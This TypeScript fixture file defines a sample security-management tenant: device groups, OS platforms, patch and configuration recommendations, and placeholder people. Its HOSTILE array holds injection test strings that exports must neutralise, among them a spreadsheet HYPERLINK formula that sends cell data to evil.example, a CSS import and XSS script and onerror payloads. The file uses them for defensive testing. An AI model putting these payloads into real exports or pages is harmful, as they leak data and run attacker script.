import {
  type DeviceGroupName,
  deviceGroupName,
  type Email,
  email,
  type RecommendationCategory,
  type RemediationType,
  type SeverityLevel,
} from '../../core/index.ts';

/**
 * The fixed cast of the sample tenant: device groups, OS mix, recommendations with the vendor's id
 * forms, people, and the hostile strings every export and page must survive. The storyline names
 * groups and recommendations by the literal types derived here, so a typo fails to compile.
 */

export interface GroupSpec {
  readonly name: string;
  readonly weight: number;
  readonly servers: boolean;
  readonly prefix: string;
}

export const GROUPS = [
  { name: 'Finance', weight: 12, servers: false, prefix: 'fin' },
  { name: 'Engineering', weight: 22, servers: false, prefix: 'eng' },
  { name: 'Sales & "Marketing"', weight: 14, servers: false, prefix: 'sal' },
  { name: '研发中心 (Shanghai)', weight: 10, servers: false, prefix: 'sha' },
  { name: 'Kiosks', weight: 5, servers: false, prefix: 'kio' },
  { name: 'Servers-Prod', weight: 9, servers: true, prefix: 'srv' },
  { name: 'Servers-Dev', weight: 6, servers: true, prefix: 'dev' },
  { name: 'UnassignedGroup', weight: 4, servers: false, prefix: 'pc' },
] as const satisfies readonly GroupSpec[];

export type GroupName = (typeof GROUPS)[number]['name'];
export const groupName = (name: GroupName): DeviceGroupName => deviceGroupName(name);
export const GROUP_NAMES: readonly DeviceGroupName[] = GROUPS.map((g) => groupName(g.name));

export type OsPlatform =
  | 'Windows10'
  | 'Windows11'
  | 'macOS'
  | 'Linux'
  | 'WindowsServer2016'
  | 'WindowsServer2019'
  | 'WindowsServer2022';

export const WORKSTATION_OS: readonly (readonly [OsPlatform, number])[] = [
  ['Windows10', 50],
  ['Windows11', 38],
  ['macOS', 7],
  ['Linux', 5],
];
export const SERVER_OS: readonly (readonly [OsPlatform, number])[] = [
  ['WindowsServer2016', 15],
  ['WindowsServer2019', 35],
  ['WindowsServer2022', 35],
  ['Linux', 15],
];

export interface RecommendationSpec {
  readonly id: string;
  readonly productName: string;
  readonly vendor: string;
  readonly name: string;
  readonly component: string;
  readonly recommendedVersion: string;
  readonly category: RecommendationCategory;
  readonly subCategory: string;
  readonly remediationType: RemediationType;
  /** Share of applicable devices exposed at the start. */
  readonly prevalence: number;
  /** The platforms it applies to. */
  readonly platforms: readonly OsPlatform[];
  readonly weaknesses: number;
  readonly publicExploit: boolean;
  readonly severity: SeverityLevel;
}

export const appliesTo = (spec: RecommendationSpec, os: string): boolean =>
  spec.platforms.some((p) => p === os);

const WORKSTATION_WINDOWS: readonly OsPlatform[] = ['Windows10', 'Windows11'];
const WINDOWS: readonly OsPlatform[] = [
  ...WORKSTATION_WINDOWS,
  'WindowsServer2016',
  'WindowsServer2019',
  'WindowsServer2022',
];
const EVERY_OS: readonly OsPlatform[] = [...WINDOWS, 'macOS', 'Linux'];

interface SoftwareSpec<V extends string, P extends string> {
  readonly vendor: V;
  readonly product: P;
  readonly name: string;
  readonly component: string;
  readonly version: string;
  readonly prevalence: number;
  readonly platforms: readonly OsPlatform[];
  readonly weaknesses: number;
  readonly severity: SeverityLevel;
  /** Update unless given. */
  readonly remediationType?: RemediationType;
}

const software = <V extends string, P extends string>(
  s: SoftwareSpec<V, P>,
): RecommendationSpec & { readonly id: `va-_-${V}-_-${P}` } => ({
  id: `va-_-${s.vendor}-_-${s.product}`,
  productName: s.product,
  vendor: s.vendor,
  name: s.name,
  component: s.component,
  recommendedVersion: s.version,
  category: 'Application',
  subCategory: '',
  remediationType: s.remediationType ?? 'Update',
  prevalence: s.prevalence,
  platforms: s.platforms,
  weaknesses: s.weaknesses,
  publicExploit: s.weaknesses > 40,
  severity: s.severity,
});

interface ConfigurationSpec<N extends number> {
  readonly scid: N;
  readonly name: string;
  readonly category: RecommendationCategory;
  readonly subCategory: string;
  readonly prevalence: number;
  readonly platforms: readonly OsPlatform[];
}

const configuration = <N extends number>(
  c: ConfigurationSpec<N>,
): RecommendationSpec & { readonly id: `sca-_-scid-${N}` } => ({
  id: `sca-_-scid-${c.scid}`,
  productName: '',
  vendor: '',
  name: c.name,
  component: c.subCategory,
  recommendedVersion: '',
  category: c.category,
  subCategory: c.subCategory,
  remediationType: 'ConfigurationChange',
  prevalence: c.prevalence,
  platforms: c.platforms,
  weaknesses: 0,
  publicExploit: false,
  severity: 'Medium',
});

export const RECOMMENDATIONS = [
  software({
    vendor: 'google',
    product: 'chrome',
    name: 'Update Google Chrome to version 131.0.6778.86',
    component: 'Chrome',
    version: '131.0.6778.86',
    prevalence: 0.45,
    platforms: WINDOWS,
    weaknesses: 212,
    severity: 'Critical',
  }),
  software({
    vendor: 'microsoft',
    product: 'edge_chromium-based',
    name: 'Update Microsoft Edge Chromium-based to version 131.0.2903.70',
    component: 'Edge Chromium-based',
    version: '131.0.2903.70',
    prevalence: 0.5,
    platforms: WINDOWS,
    weaknesses: 176,
    severity: 'High',
  }),
  software({
    vendor: 'oracle',
    product: 'jre',
    name: 'Update Oracle Jre to version 8.0.431',
    component: 'Java Runtime Environment',
    version: '8.0.431',
    prevalence: 0.12,
    platforms: EVERY_OS,
    weaknesses: 64,
    severity: 'High',
  }),
  software({
    vendor: 'mozilla',
    product: 'firefox',
    name: 'Update Mozilla Firefox to version 133.0',
    component: 'Firefox',
    version: '133.0',
    prevalence: 0.12,
    platforms: EVERY_OS.filter((os) => os !== 'Linux'),
    weaknesses: 38,
    severity: 'High',
  }),
  software({
    vendor: 'adobe',
    product: 'acrobat_reader_dc',
    name: 'Update Adobe Acrobat Reader DC to version 24.5.20320',
    component: 'Acrobat Reader DC',
    version: '24.5.20320',
    prevalence: 0.15,
    platforms: WORKSTATION_WINDOWS,
    weaknesses: 27,
    severity: 'Medium',
  }),
  software({
    vendor: '7-zip',
    product: '7-zip',
    name: 'Update 7-zip to version 24.8.0.0',
    component: '7-zip',
    version: '24.8.0.0',
    prevalence: 0.1,
    platforms: WINDOWS,
    weaknesses: 4,
    severity: 'Medium',
  }),
  software({
    vendor: 'microsoft',
    product: 'silverlight',
    name: 'Uninstall Microsoft Silverlight',
    component: 'Microsoft Silverlight',
    version: '',
    prevalence: 0.03,
    platforms: WORKSTATION_WINDOWS,
    weaknesses: 55,
    severity: 'Critical',
    remediationType: 'Uninstall',
  }),
  software({
    vendor: 'videolan',
    product: 'vlc_media_player',
    name: 'Update Videolan Vlc Media Player to version 3.0.21.0',
    component: 'VLC media player',
    version: '3.0.21.0',
    prevalence: 0.06,
    platforms: WORKSTATION_WINDOWS,
    weaknesses: 9,
    severity: 'Low',
  }),
  software({
    vendor: 'microsoft',
    product: 'windows_10',
    name: 'Update Windows 10 (OS and built-in applications)',
    component: 'Windows 10',
    version: '10.0.19045.5247',
    prevalence: 0.3,
    platforms: ['Windows10'],
    weaknesses: 312,
    severity: 'Critical',
  }),
  software({
    vendor: 'microsoft',
    product: 'windows_server_2016',
    name: 'Update Windows Server 2016',
    component: 'Windows Server 2016',
    version: '10.0.14393.7606',
    prevalence: 0.5,
    platforms: ['WindowsServer2016'],
    weaknesses: 288,
    severity: 'Critical',
  }),
  software({
    vendor: 'openssl',
    product: 'openssl',
    name: 'Update Openssl to version 3.0.15',
    component: 'OpenSSL',
    version: '3.0.15',
    prevalence: 0.4,
    platforms: ['Linux'],
    weaknesses: 21,
    severity: 'High',
  }),
  software({
    vendor: 'apple',
    product: 'safari',
    name: 'Update Apple Safari to version 18.1',
    component: 'Safari',
    version: '18.1',
    prevalence: 0.35,
    platforms: ['macOS'],
    weaknesses: 17,
    severity: 'Medium',
  }),
  configuration({
    scid: 2010,
    name: 'Turn on Microsoft Defender Antivirus PUA protection in block mode',
    category: 'SecurityControls',
    subCategory: 'Antivirus',
    prevalence: 0.1,
    platforms: WINDOWS,
  }),
  configuration({
    scid: 2011,
    name: 'Update Microsoft Defender Antivirus definitions',
    category: 'SecurityControls',
    subCategory: 'Antivirus',
    prevalence: 0.06,
    platforms: WINDOWS,
  }),
  configuration({
    scid: 90,
    name: "Disable 'Autoplay' for all drives",
    category: 'OS',
    subCategory: 'Autoplay',
    prevalence: 0.12,
    platforms: WORKSTATION_WINDOWS,
  }),
  configuration({
    scid: 4002,
    name: 'Disable SMBv1 client driver',
    category: 'Network',
    subCategory: 'SMB',
    prevalence: 0.05,
    platforms: WINDOWS,
  }),
  configuration({
    scid: 1001,
    name: 'Enable Microsoft Defender Firewall',
    category: 'Network',
    subCategory: 'Firewall',
    prevalence: 0.04,
    platforms: WINDOWS,
  }),
  configuration({
    scid: 5001,
    name: "Set 'Minimum password length' to '14 or more character(s)'",
    category: 'Accounts',
    subCategory: 'Password policy',
    prevalence: 0.08,
    platforms: WINDOWS,
  }),
] as const;

export type RecommendationKey = (typeof RECOMMENDATIONS)[number]['id'];

export function recommendationSpec(key: RecommendationKey): RecommendationSpec {
  const spec = RECOMMENDATIONS.find((s) => s.id === key);
  if (!spec) throw new Error(`no recommendation ${key} in the catalogue`);
  return spec;
}

export const REQUESTERS: readonly Email[] = [
  'alice.martin@contoso.com',
  'bo.chen@contoso.com',
  'carla.diaz@contoso.com',
  'dev.patel@contoso.com',
].map(email);
export const ADMIN: Email = email('secops-admin@contoso.com');

/** Formula prefixes, markup, quotes, separators, newlines and CJK text: what exports must neutralise. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3 (negative, not a formula)',
  '@import url(evil.css)',
  '<script>alert("xss")</script><img src=x onerror=alert(1)>',
  'Said "patch it", then didn\'t; a, b, c',
  'First line\nSecond line\r\nThird line',
  '请在周五前完成修正，谢谢。Tab\there.',
] as const;

export const NOTES: readonly string[] = [
  'Please patch during the next maintenance window.',
  'Vendor confirmed the fix; roll out with the monthly update ring.',
  'Coordinate with the application owners before restarting servers.',
  'Pilot group first, then everyone.',
  '',
];
